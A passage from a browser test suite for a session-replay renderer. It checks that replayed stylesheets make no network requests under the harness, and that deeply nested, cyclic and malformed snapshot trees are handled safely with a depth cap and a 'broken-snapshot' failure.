        bench.requests.map((url) => sheets.find((sheet) => sheet.includes(url)) ?? url),
        `seed ${seed}`,
      ).toEqual([]);

      // The control: the same sheets as they are.
      const raw = await bench.console(browser, { csp: false });
      await raw.evaluate(
        `(async (sheets) => {
          for (let at = 0; at < sheets.length; at += 20) {
            document.body.replaceChildren(...sheets.slice(at, at + 20).map((css) => {
              const host = document.createElement('div');
              const root = host.attachShadow({ mode: 'open' });
              root.innerHTML = '<style></style><div class="a" id="b"></div>';
              root.firstChild.textContent = css;
              root.lastChild.setAttribute('style', css);
              return host;
            }));
            await bench.painted();
          }
        })(${JSON.stringify(sheets)})`,
      );
      await settle(raw);
      await raw.close();
      expect(bench.requests.length, 'the control asks for many').toBeGreaterThan(100);
    });

    test('deep, cyclic and nonsensical trees are survived', async () => {
      const page = await bench.console(browser);
      const result = await page.evaluate(`(async () => {
        bench.start();
        let open = '', close = '';
        for (let i = 0; i < 20000; i++) { open += '{"type":2,"id":' + (100 + i) + ',"tagName":"p","attributes":{},"childNodes":['; close += ']}'; }
        const html = (inner) => [{ type: 2, data: { node: { type: 0, id: 1, childNodes: [{ type: 2, id: 2, tagName: 'html', attributes: {}, childNodes: [{ type: 2, id: 3, tagName: 'body', attributes: {}, childNodes: inner }] }] } } }];
        bench.snapshot(JSON.stringify(html(['HERE'])).replace('"HERE"', open + close));
        await bench.painted();
        const depthElements = bench.mirror.stats.elements;
        const mutate = (data) => bench.change([{ type: 3, data: { source: 0, texts: [], attributes: [], removes: [], adds: [], ...data } }]);
        for (let i = 0; i < 3000; i++) mutate({ adds: [{ parentId: i === 0 ? 3 : 50000 + i - 1, nextId: null, node: { type: 2, id: 50000 + i, tagName: 'i', attributes: {}, childNodes: [] } }] });
        // A node below itself, a node that is its own parent, ids taken twice, ids of nothing, wrong types everywhere.
        mutate({ adds: [{ parentId: 100, nextId: null, node: { type: 2, id: 3, tagName: 'body', attributes: {}, childNodes: [] } }] });
        mutate({ adds: [{ parentId: 77, nextId: 77, node: { type: 2, id: 77, tagName: 'b', attributes: {}, childNodes: [] } }] });
        mutate({ adds: [{ parentId: 1, nextId: null, node: { type: 2, id: 2, tagName: 'html', attributes: {}, childNodes: [] } }] });
        mutate({ adds: 7, removes: 'x', attributes: [null, { id: 2, attributes: 3 }], texts: [{}, [], { id: 'x' }] });
        mutate({ adds: [{ parentId: 2, nextId: null, node: { type: 0, id: 88, childNodes: [] } }, { parentId: 1, node: { type: 9, id: 89 } }, { parentId: 1, node: { type: 3, id: 90, textContent: {} } }] });
        for (const junk of [null, 1, 'x', [], {}, [[]], [null], [{ type: 2 }], [{ type: 2, data: {} }]]) { bench.change(junk); }
        bench.snapshot({});
        const failed = bench.emitted.filter((event) => event.kind === 'failed').map((event) => event.reason);
        // Still alive: a sound snapshot is shown.
        bench.snapshot(html([{ type: 3, id: 4, textContent: 'sound' }]));
        await bench.painted();
        return { depthElements, failed, text: bench.document.body.textContent };
      })()`);
      await page.close();
      expect(result).toEqual({
        depthElements: expect.any(Number),
        failed: expect.arrayContaining(['broken-snapshot']),
        text: 'sound',
      });
      // The snapshot's html and body, and as deep as the limit goes.
      expect((result as { depthElements: number }).depthElements).toBeLessThanOrEqual(515);
    });
  });
}
